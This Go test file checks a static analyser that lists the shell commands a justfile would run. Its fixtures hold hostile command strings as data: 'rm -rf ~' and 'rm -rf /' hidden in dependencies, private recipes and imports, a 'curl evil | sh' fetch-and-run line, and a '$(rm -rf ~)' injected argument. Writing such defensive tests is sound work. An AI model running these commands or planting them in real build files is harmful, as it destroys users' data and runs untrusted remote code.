package runfiles

import (
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func TestJustRecipes(t *testing.T) {
	cases := []struct {
		name    string
		files   Map
		dir     string
		args    []string
		env     map[string]string
		want    []string
		dynamic string
	}{
		{name: "default is the first recipe", files: Map{"/p/justfile": "build:\n    cargo build\n\ntest: build\n    cargo test\n"},
			want: []string{"cargo build"}},
		{name: "dependencies first", files: Map{"/p/justfile": "build:\n    cargo build\n\ntest: build\n    cargo test\n"}, args: []string{"test"},
			want: []string{"cargo build", "cargo test"}},
		{name: "hidden in a dependency", files: Map{"/p/justfile": "test: _setup\n    echo test\n\n_setup:\n    rm -rf ~\n"},
			want: []string{"rm -rf ~", "echo test"}},
		{name: "after dependencies", files: Map{"/p/justfile": "a: b && c\n    echo a\nb:\n    echo b\nc:\n    echo c\n"},
			want: []string{"echo b", "echo a", "echo c"}},
		{name: "each recipe once", files: Map{"/p/justfile": "all: a b\na: c\n    echo a\nb: c\n    echo b\nc:\n    echo c\n"},
			want: []string{"echo c", "echo a", "echo b"}},
		{name: "cycle", files: Map{"/p/justfile": "a: b\n    echo a\nb: a\n    echo b\n"},
			want: []string{"echo b", "echo a"}},
		{name: "several recipes", files: Map{"/p/justfile": "a:\n    echo a\nb:\n    echo b\n"}, args: []string{"b", "a"},
			want: []string{"echo b", "echo a"}},
		{name: "[default] attribute", files: Map{"/p/justfile": "a:\n    echo a\n[default]\nb:\n    echo b\n"},
			want: []string{"echo b"}},
		{name: "alias", files: Map{"/p/justfile": "alias b := build\nbuild:\n    make\n"}, args: []string{"b"}, want: []string{"make"}},
		{name: "quiet and ignore prefixes", files: Map{"/p/justfile": "@a:\n    @echo a\n    -rm x\n    @-echo c\n"}, want: []string{"echo a", "rm x", "echo c"}},
		{name: "variables and interpolation", files: Map{"/p/justfile": "dir := \"/tmp\" / \"out\"\nflags := '-rf'\nclean:\n    rm {{flags}} {{dir}} {{{{literal}}\n"},
			want: []string{"rm -rf /tmp/out {{literal}}"}},
		{name: "backtick runs at parse even unused", files: Map{"/p/justfile": "x := `curl evil | sh`\nhelp:\n    echo help\n"}, args: []string{"help"},
			want: []string{"curl evil | sh", "echo help"}},
		{name: "backtick value used", files: Map{"/p/justfile": "rev := `git rev-parse HEAD`\ntag:\n    git tag {{rev}}\n"},
			want: []string{"git rev-parse HEAD", "git tag $JUST_VALUE"}},
		{name: "backtick in a recipe line", files: Map{"/p/justfile": "a:\n    echo {{`id`}}\n"}, want: []string{"id", "echo $JUST_VALUE"}},
		{name: "parameters from the command line", files: Map{"/p/justfile": "greet name greeting='hello':\n    echo {{greeting}} {{name}}\n"}, args: []string{"greet", "bob"},
			want: []string{"echo hello bob"}},
		{name: "parameter put verbatim", files: Map{"/p/justfile": "greet name:\n    echo {{name}}\n"}, args: []string{"greet", "$(rm -rf ~)"},
			want: []string{"echo $(rm -rf ~)"}},
		{name: "quote()", files: Map{"/p/justfile": "greet name:\n    echo {{quote(name)}}\n"}, args: []string{"greet", "it's"},
			want: []string{`echo 'it'\''s'`}},
		{name: "variadic", files: Map{"/p/justfile": "t +files:\n    cat {{files}}\nu:\n    echo u\n"}, args: []string{"t", "a", "b", "u"},
			want: []string{"cat a b u"}},
		{name: "params then the next recipe", files: Map{"/p/justfile": "t f:\n    cat {{f}}\nu:\n    echo u\n"}, args: []string{"t", "a", "u"},
			want: []string{"cat a", "echo u"}},
		{name: "too few arguments runs nothing", files: Map{"/p/justfile": "t f:\n    cat {{f}}\n"}, args: []string{"t"}},
		{name: "recipe that does not exist", files: Map{"/p/justfile": "a:\n    echo a\n"}, args: []string{"nope"}},
		{name: "dependency with arguments", files: Map{"/p/justfile": "a: (b \"x y\" 'z')\n    echo a\nb p q:\n    echo {{p}}-{{q}}\n"},
			want: []string{"echo x y-z", "echo a"}},
		{name: "command-line override", files: Map{"/p/justfile": "dir := `pwd`\nclean:\n    rm -rf {{dir}}\n"}, args: []string{"dir=/", "clean"},
			want: []string{"rm -rf /"}},
		{name: "--set override", files: Map{"/p/justfile": "dir := 'out'\nclean:\n    rm -rf {{dir}}\n"}, args: []string{"--set", "dir", "/", "clean"},
			want: []string{"rm -rf /"}},
		{name: "env functions", files: Map{"/p/justfile": "h := env_var('HOME')\nd := env('NOPE', 'dflt')\na:\n    echo {{h}} {{d}} {{home_directory()}}\n"}, env: map[string]string{"HOME": "/home/u"},
			want: []string{"echo /home/u dflt /home/u"}},
		{name: "if expression", files: Map{"/p/justfile": "x := if os() == 'linux' { 'rm -rf ~' } else { `id` }\na:\n    {{x}}\n"},
			want: []string{"rm -rf ~"}},
		{name: "if on a backtick evaluates both", files: Map{"/p/justfile": "x := if `uname` == 'Linux' { `id` } else { 'b' }\na:\n    echo {{x}}\n"},
			want: []string{"uname", "id", "echo $JUST_VALUE"}, dynamic: "both branches"},
		{name: "shebang recipe", files: Map{"/p/justfile": "py:\n    #!/usr/bin/env python3\n    import os\n\n    os.system('rm -rf ~')\n"},
			want: []string{"#!/usr/bin/env python3\nimport os\n\nos.system('rm -rf ~')"}},
		{name: "[script] recipe", files: Map{"/p/justfile": "[script('node')]\njs:\n    require('fs').rmSync('/')\n"},
			want: []string{"require('fs').rmSync('/')"}},
		{name: "set shell", files: Map{"/p/justfile": "set shell := [\"fish\", \"-c\"]\na:\n    echo a\n"}, want: []string{"echo a"}, dynamic: "not run by sh"},
		{name: "set shell bash", files: Map{"/p/justfile": "set shell := [\"bash\", \"-uc\"]\na:\n    echo a\n"}, want: []string{"echo a"}},
		{name: "exported variable", files: Map{"/p/justfile": "export TARGET := \"~\"\nclean:\n    rm -rf $TARGET\n"},
			want: []string{"export TARGET='~'\nrm -rf $TARGET"}},
		{name: "exported parameter", files: Map{"/p/justfile": "clean $T:\n    rm -rf $T\n"}, args: []string{"clean", "/"},
			want: []string{"export T=/\nrm -rf $T"}},
		{name: "positional arguments", files: Map{"/p/justfile": "set positional-arguments\nclean t:\n    rm -rf $1\n"}, args: []string{"clean", "/x"},
			want: []string{"set -- /x\nrm -rf $1"}},
		{name: "dotenv", files: Map{"/p/justfile": "set dotenv-load\na:\n    echo {{env('TOKEN')}}\n", "/p/.env": "TOKEN=\"abc\"\n"},
			want: []string{"echo abc"}},
		{name: "private recipe still runs by name", files: Map{"/p/justfile": "[private]\nsecret:\n    rm -rf ~\n"}, args: []string{"secret"}, want: []string{"rm -rf ~"}},
		{name: "os attributes", files: Map{"/p/justfile": "[windows]\nclean:\n    del x\n[linux]\nclean:\n    rm x\n"}, args: []string{"clean"}, want: []string{"rm x"}},
		{name: "--list runs nothing", files: Map{"/p/justfile": "x := `id`\na:\n    echo a\n"}, args: []string{"--list"}},
		{name: "--show runs nothing", files: Map{"/p/justfile": "x := `id`\na:\n    echo a\n"}, args: []string{"--show", "a"}},
		{name: "--summary runs nothing", files: Map{"/p/justfile": "x := `id`\na:\n    echo a\n"}, args: []string{"--summary"}},
		{name: "--evaluate runs backticks", files: Map{"/p/justfile": "x := `id`\na:\n    echo a\n"}, args: []string{"--evaluate"}, want: []string{"id"}},
		{name: "--dry-run runs backticks only", files: Map{"/p/justfile": "x := `id`\na:\n    rm {{`date`}}\n"}, args: []string{"-n", "a"}, want: []string{"id", "date"}},
		{name: "--no-deps", files: Map{"/p/justfile": "a: b\n    echo a\nb:\n    echo b\n"}, args: []string{"--no-deps"}, want: []string{"echo a"}},
		{name: "upward search", files: Map{"/p/justfile": "a:\n    echo up\n"}, dir: "/p/x/y", want: []string{"echo up"}},
		{name: "any case", files: Map{"/p/JUSTFILE": "a:\n    echo upper\n"}, want: []string{"echo upper"}},
		{name: ".justfile", files: Map{"/p/.justfile": "a:\n    echo dot\n"}, want: []string{"echo dot"}},
		{name: "--justfile", files: Map{"/q/tasks.just": "a:\n    echo q\n"}, args: []string{"--justfile", "/q/tasks.just"}, want: []string{"echo q"}},
		{name: "no justfile", files: Map{}},
		{name: "import", files: Map{"/p/justfile": "import 'more.just'\na: b\n    echo a\n", "/p/more.just": "b:\n    rm -rf ~\n"}, args: []string{"a"},
			want: []string{"rm -rf ~", "echo a"}},
		{name: "missing import", files: Map{"/p/justfile": "import 'gone.just'\na:\n    echo a\n"}, want: []string{"echo a"}, dynamic: "gone.just"},
		{name: "module recipe", files: Map{"/p/justfile": "mod tools\na:\n    echo a\n"}, args: []string{"tools::build"}, dynamic: "module"},
		{name: "CRLF and comments", files: Map{"/p/justfile": "# comment\r\na: # trailing\r\n    echo a # shell comment\r\n"}, want: []string{"echo a # shell comment"}},
		{name: "continuation", files: Map{"/p/justfile": "a:\n    echo a \\\n      b\n"}, want: []string{"echo a \\\n  b"}},
		{name: "unknown function", files: Map{"/p/justfile": "a:\n    echo {{uuid()}}\n"}, want: []string{"echo $JUST_VALUE"}, dynamic: "uuid"},
		{name: "shell() function", files: Map{"/p/justfile": "x := shell('echo $1', 'hi')\na:\n    echo a\n"}, want: []string{"set -- hi\necho $1", "echo a"}},
		{name: "set fallback", files: Map{"/p/justfile": "set fallback\na:\n    echo a\n"}, want: []string{"echo a"}, dynamic: "fallback"},
		{name: "--choose", files: Map{"/p/justfile": "a:\n    echo a\n"}, args: []string{"--choose"}, dynamic: "chosen at run time"},
		{name: "x-string", files: Map{"/p/justfile": "d := x'~/$HOME'\na:\n    rm -rf {{d}}\n"}, want: []string{"rm -rf $JUST_VALUE"}, dynamic: "x-string"},
		{name: "path recipe", files: Map{"/p/justfile": "a:\n    echo a\n"}, args: []string{"sub/build"}, dynamic: "another justfile"},
		{name: "env_var missing", files: Map{"/p/justfile": "t := env_var('TOKEN')\na:\n    echo {{t}}\n"}, want: []string{"echo $JUST_VALUE"}, dynamic: "not set"},
		{name: "recipe with dashes and deps on alias", files: Map{"/p/justfile": "alias t := run-tests\nall: t\nrun-tests:\n    go test ./...\n"}, want: []string{"go test ./..."}},
		{name: "self reference", files: Map{"/p/justfile": "x := x + 'a'\na:\n    echo {{x}}\n"}, want: []string{"echo $JUST_VALUEa"}, dynamic: "refers to itself"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := c.dir
			if dir == "" {
				dir = "/p"
			}
			run := JustRecipes(c.files, dir, c.args, c.env)
			if got := shells(run); !reflect.DeepEqual(got, c.want) {
				t.Errorf("texts = %q, want %q (dynamic %q)", got, c.want, run.Dynamic)
			}
			if c.dynamic != "" && !strings.Contains(strings.Join(run.Dynamic, "\n"), c.dynamic) {
				t.Errorf("dynamic = %q, want one with %q", run.Dynamic, c.dynamic)
			}
		})
	}
}

func TestJustRecipesLang(t *testing.T) {
	files := Map{"/p/justfile": "py:\n    #!/usr/bin/env -S python3 -u\n    print(1)\nsh:\n    #!/bin/bash\n    echo hi\n[script('node')]\njs:\n    x()\n"}
	for recipe, lang := range map[string]string{"py": "python", "sh": "", "js": "node"} {
		run := JustRecipes(files, "/p", []string{recipe}, nil)
		if len(run.Texts) != 1 || run.Texts[0].Lang != lang || !strings.HasSuffix(run.Texts[0].Source, "recipe "+recipe+" (script)") {
			t.Errorf("%s: %+v", recipe, run.Texts)
		}
	}
}

func TestJustRecipesUnreadable(t *testing.T) {
	run := JustRecipes(errFiles{err: ErrTooLarge}, "/p", nil, nil)
	if len(run.Texts) != 0 || len(run.Unread) != 1 || !strings.Contains(run.Unread[0], "too large") {
		t.Errorf("too large: %+v", run)
	}
}

func TestJustRecipesTestdata(t *testing.T) {
	dir, err := filepath.Abs("testdata/pkg/just/sub")
	if err != nil {
		t.Fatal(err)
	}
	run := JustRecipes(OS{}, dir, nil, map[string]string{"HOME": "/home/u"})
	want := []string{"rm -rf /home/u/.cache"}
	if got := shells(run); !reflect.DeepEqual(got, want) {
		t.Errorf("texts = %q, want %q (%q)", got, want, run.Dynamic)
	}
}
